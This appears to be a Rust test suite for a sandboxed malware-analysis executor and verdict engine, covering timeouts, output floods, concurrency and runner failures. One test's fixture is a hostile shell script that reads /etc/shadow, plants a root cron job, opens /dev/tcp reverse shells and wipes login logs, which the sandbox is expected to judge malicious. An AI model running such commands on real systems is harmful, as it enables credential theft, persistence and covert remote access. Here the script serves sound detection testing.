//! Artifacts through the executor of the verifier pool: real workers, real sandboxes, real ends.
#![expect(clippy::unwrap_used, reason = "a test that cannot go on should fail there")]

mod bench;
mod ends;
mod sees;
mod spares;

use std::time::Duration;

use types::ports::{ExecuteError, Judge as _, Progress};
use types::{Ending, Kind, Verdict};

use bench::{Bench, execution, reason, run};
use shieldx::judge::LocalJudge;

#[test]
fn a_python_script_with_its_own_first_line_is_benign() {
    let bench = Bench::new();
    let script = "#!/usr/bin/env python3\nimport sys\nprint(sys.argv[1:])\n\
                  open('out.txt', 'w').write('x' * 100)\n";
    let mut job = execution(&bench.artifact(script), "job.py");
    job.arguments = vec!["one".into(), "--two".into(), "ü\n".into()];
    let (id, result) = (job.id.clone(), run(&bench.executor(), job));
    let recording = result.unwrap();
    assert_eq!(recording.run.id, id);
    assert_eq!(recording.run.ending, Ending::Exited { code: 0 });
    let output = recording.output.as_ref().unwrap();
    assert_eq!(output.stdout.to_lossy(), "['one', '--two', 'ü\\n']\n");
    let judge = LocalJudge::new();
    let assessment = judge.assess(&recording);
    assert_eq!(assessment.verdict, Verdict::Benign, "{}", assessment.reason);
    let features = judge.features(&recording);
    assert!((features["file_created_count"] - 1.0).abs() < 1e-9, "{features:?}");
    let changed: Vec<String> = recording
        .events
        .iter()
        .filter_map(|event| match &event.kind {
            Kind::FileChanged(change) => Some(format!("{} {}", change.change, change.path)),
            _ => None,
        })
        .collect();
    assert_eq!(changed, ["created /artifact/out.txt"], "the artifact itself is nobody's change");
    let report = judge.json(&recording, &assessment);
    assert!(judge.html(&report).unwrap().contains("./job.py"));
}

#[test]
fn a_hostile_shell_script_is_malicious() {
    let bench = Bench::new();
    let script = "#!/bin/sh\ncat /etc/shadow\n\
                  echo '* * * * * root sh /tmp/.x' > /etc/cron.d/x\n\
                  (sh -c 'exec 3<>/dev/tcp/127.0.0.1/4444; sh -i <&3 >&3') 2>/dev/null\n\
                  bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444; bash -i <&3 >&3 2>&3'\n\
                  rm -f /var/log/wtmp \"$0\"\nexit 0\n";
    let recording = run(&bench.executor(), execution(&bench.artifact(script), "x.sh")).unwrap();
    let assessment = LocalJudge::new().assess(&recording);
    assert_eq!(assessment.verdict, Verdict::Malicious, "{}", assessment.reason);
}

#[test]
fn a_program_and_an_interpreter_that_is_named_both_run() {
    let bench = Bench::new();
    let program = std::fs::read("/bin/echo").unwrap();
    let mut job = execution(&bench.artifact(program), "-echo");
    job.arguments = vec!["said".into()];
    let recording = run(&bench.executor(), job).unwrap();
    assert_eq!(recording.output.unwrap().stdout.to_lossy(), "said\n");
    assert_eq!(recording.run.command.len(), 2);

    let mut job = execution(&bench.artifact("echo \"$1 from $0\"\n"), "-c");
    job.interpreter = Some("sh".into());
    job.arguments = vec!["hello".into()];
    let recording = run(&bench.executor(), job).unwrap();
    assert_eq!(recording.output.unwrap().stdout.to_lossy(), "hello from ./-c\n");
}

#[test]
fn what_cannot_run_is_said_and_not_tried_again() {
    let bench = Bench::new();
    let mut arm = std::fs::read("/bin/echo").unwrap();
    // e_machine: EM_AARCH64, or EM_X86_64 where that is the host's own.
    let other = if cfg!(target_arch = "aarch64") { 62 } else { 183 };
    arm[18..20].copy_from_slice(&u16::to_le_bytes(other));
    let text = "just text\n";
    let cases: [(&[u8], Option<&str>, &str); 4] = [
        (&arm, None, "is built for"),
        (text.as_bytes(), None, "text without an interpreter line"),
        (b"#!/no/such/interpreter\n", None, "does not exist"),
        (text.as_bytes(), Some("no-such-interpreter"), "command not found"),
    ];
    for (content, interpreter, expect) in cases {
        let mut job = execution(&bench.artifact(content), "artifact");
        job.interpreter = interpreter.map(str::to_owned);
        match run(&bench.executor(), job) {
            Err(ExecuteError::Unrunnable { reason }) => {
                assert!(reason.contains(expect), "{reason}");
                assert!(!reason.contains(bench.store().to_str().unwrap()), "{reason}");
            }
            other => panic!("{expect}: {other:?}"),
        }
    }
    let mut job = execution(&bench.artifact(text), "artifact");
    job.runner = "gvisor".into();
    assert!(matches!(run(&bench.executor(), job), Err(ExecuteError::Runner { .. })));
    let mut job = execution(&bench.artifact(text), "artifact");
    job.artifact = bench.store().join("gone");
    let error = run(&bench.executor(), job).unwrap_err();
    assert!(matches!(error, ExecuteError::Failed { .. }), "{error}");
}

#[test]
fn the_time_limit_gives_a_recording_and_no_acquittal() {
    let bench = Bench::new();
    let mut job = execution(&bench.artifact("#!/bin/sh\nsleep 60\n"), "slow.sh");
    job.timeout_ms = 300;
    let recording = run(&bench.executor(), job).unwrap();
    assert_eq!(recording.run.ending, Ending::TimedOut);
    let verdict = LocalJudge::new().assess(&recording).verdict;
    assert_eq!(verdict, Verdict::Inconclusive);
}

#[test]
fn a_flood_of_output_and_events_is_bounded() {
    let bench = Bench::new();
    let script = "#!/bin/sh\nhead -c 30000000 /dev/zero | tr '\\0' 'x'\n\
                  for i in $(seq 3000); do : > f$i; done\n";
    let mut job = execution(&bench.artifact(script), "flood.sh");
    job.output_bytes = 100_000;
    let mut settings = bench.settings();
    settings.events_max = 1000;
    let told = bench::Told::default();
    let executor = Bench::executor_with(settings);
    let recording = bench::run_told(&executor, job, &told).unwrap();
    let output = recording.output.as_ref().unwrap();
    assert_eq!((output.stdout.as_bytes().len(), output.stdout_bytes), (100_000, 30_000_000));
    assert!(output.truncated);
    assert!(recording.faults.iter().any(|fault| fault.contains("past the first 1000")));
    let assessment = LocalJudge::new().assess(&recording);
    assert_ne!(assessment.verdict, Verdict::Benign, "what was not kept is not known");
    let events = told.take().iter().filter(|p| matches!(p, Progress::Event(_))).count();
    assert!((1..=2000).contains(&events), "{events} events told");
}

#[test]
fn a_recording_beyond_its_bound_is_trimmed_and_incomplete() {
    let bench = Bench::new();
    let script = "#!/bin/sh\nfor i in $(seq 2000); do : > f$i; done\n";
    let mut settings = bench.settings();
    settings.recording_max_bytes = 200_000;
    let executor = Bench::executor_with(settings);
    let recording = run(&executor, execution(&bench.artifact(script), "many.sh")).unwrap();
    let assessment = LocalJudge::new().assess(&recording);
    assert!(assessment.evidence.reasons.iter().any(|reason| reason.contains("too large")));
    assert_ne!(assessment.verdict, Verdict::Benign);
}

#[test]
fn four_at_once_keep_their_own() {
    let bench = Bench::new();
    let executor = bench.executor();
    let jobs: Vec<_> = (0..4)
        .map(|n| {
            let script = format!("#!/bin/sh\necho run {n} > mine\nsleep 0.3\ncat /artifact/*\n");
            execution(&bench.artifact(script), &format!("{n}.sh"))
        })
        .collect();
    let results = bench::block_on(async {
        let mut runs = jobs.into_iter().map(|job| bench::start(&executor, job, bench::deaf()));
        let mut next = || runs.next().unwrap();
        let (a, b, c, d) = tokio::join!(next(), next(), next(), next());
        [a, b, c, d]
    });
    for (n, result) in results.into_iter().enumerate() {
        let output = result.unwrap().output.unwrap().stdout.to_lossy().into_owned();
        assert!(output.contains(&format!("run {n}\n")), "{output}");
        assert_eq!(output.matches("\nrun").count(), 1, "only its own: {output}");
    }
}

#[test]
fn what_happens_is_told_before_the_end() {
    let bench = Bench::new();
    let script = "#!/bin/sh\n/bin/true\n: > begun\nsleep 30\n";
    let executor = bench.executor();
    let told = bench::Told::default();
    let mut job = execution(&bench.artifact(script), "slow.sh");
    job.timeout_ms = 60_000;
    bench::block_on(async {
        let running = bench::start(&executor, job, told.listener());
        let begun = told.until(|progress| match progress {
            Progress::Event(event) => {
                matches!(&event.kind, Kind::Open { path, .. } if path.ends_with("/begun"))
            }
            Progress::Phase(_) => false,
        });
        tokio::select! {
            result = running => panic!("ended first: {result:?}"),
            () = begun => {}
            () = tokio::time::sleep(Duration::from_secs(60)) => panic!("nothing was told"),
        }
    });
    let phases: Vec<&str> = told
        .take()
        .iter()
        .filter_map(|progress| match progress {
            Progress::Phase(name) => Some(*name),
            Progress::Event(_) => None,
        })
        .collect();
    assert_eq!(phases, ["build", "run"]);
}

#[test]
fn a_runner_that_is_there_is_offered() {
    use types::ports::Executor as _;
    let bench = Bench::new();
    let executor = bench.executor();
    let ready = executor.runners().into_iter().find(|(name, _)| name == "process");
    assert_eq!(ready, Some(("process".to_owned(), None)));
    // The others are tried beside; one that is not there says why.
    let docker = loop {
        let reason = executor.runners().into_iter().find(|(name, _)| name == "docker");
        match reason {
            Some((_, Some(reason))) if reason == shieldx::executor::BEING_TRIED => {
                std::thread::sleep(std::time::Duration::from_millis(10));
            }
            other => break other,
        }
    };
    let (_, reason) = docker.expect("it has a name even where it is not built in");
    assert!(reason.is_some_and(|reason| reason.len() > 20));
}

#[test]
fn a_worker_without_a_job_says_so_and_ends() {
    for (input, expect) in [
        ("", "standard input ended before the job did"),
        ("{}\n", "standard input has no job in its first line"),
        ("no json\n", "standard input has no job in its first line"),
    ] {
        let (code, stderr) = bench::speak_to_worker(input);
        assert_eq!(code, Some(65), "{stderr}");
        assert!(stderr.contains(expect), "{stderr}");
    }
}

#[test]
fn a_program_that_is_no_worker_is_a_failure_with_its_last_words() {
    let bench = Bench::new();
    let job = || execution(&bench.artifact("#!/bin/sh\n"), "x");
    let mut settings = bench.settings();
    settings.program = "/bin/false".into();
    let error = run(&Bench::executor_with(settings.clone()), job()).unwrap_err();
    assert!(reason(&error).contains("the worker ended (exit status: 1)"), "{error}");
    settings.program = "/bin/ls".into();
    let error = run(&Bench::executor_with(settings.clone()), job()).unwrap_err();
    assert!(reason(&error).contains("cannot access 'worker'"), "{error}");
    settings.program = bench.store().join("nothing");
    let error = run(&Bench::executor_with(settings.clone()), job()).unwrap_err();
    assert!(reason(&error).contains("no worker could be started"), "{error}");
    settings.program = bench.script("#!/bin/sh\nhead -c 1000000 /dev/zero\n");
    let error = run(&Bench::executor_with(settings.clone()), job()).unwrap_err();
    assert!(reason(&error).contains("a line is longer than"), "{error}");
    settings.program = bench.script("#!/bin/sh\necho nonsense\n");
    let error = run(&Bench::executor_with(settings), job()).unwrap_err();
    assert!(reason(&error).contains("a line is no message"), "{error}");
}

/// `(module (func (export "_start") unreachable))`
#[cfg(feature = "sandbox-wasm")]
const TRAP: &[u8] = b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0\x03\x02\x01\0\x07\x0a\x01\x06_start\0\0\
      \x0a\x05\x01\x03\0\0\x0b";

#[cfg(feature = "sandbox-wasm")]
#[test]
fn a_module_runs_as_an_artifact() {
    use types::ports::Executor as _;

    let bench = Bench::new();
    let executor = bench.executor();
    while executor.runners().iter().any(|(name, why)| name == "wasm" && why.is_some()) {
        std::thread::sleep(Duration::from_millis(20));
    }
    let mut job = execution(&bench.artifact(TRAP), "module.wasm");
    "wasm".clone_into(&mut job.runner);
    let recording = run(&executor, job).unwrap();
    assert_eq!(recording.run.runner, "wasm");
    assert_eq!(recording.run.ending, Ending::Signaled { signal: 6 }, "{:?}", recording.run.engine);
    // What it is given with its submission it gets, and is told apart from what it was not given.
    let teller =
        bench.artifact(wat::parse_str(crate::conformance::module::teller("args")).unwrap());
    for arguments in [vec!["one".to_owned(), "two words".to_owned()], Vec::new()] {
        let mut job = execution(&teller, "module.wasm");
        "wasm".clone_into(&mut job.runner);
        job.arguments.clone_from(&arguments);
        let output = run(&executor, job).unwrap().output.unwrap_or_default();
        let said = output.stdout.to_lossy().into_owned();
        assert_eq!(said.contains("one\0two words\0"), !arguments.is_empty(), "{said:?}");
    }
}
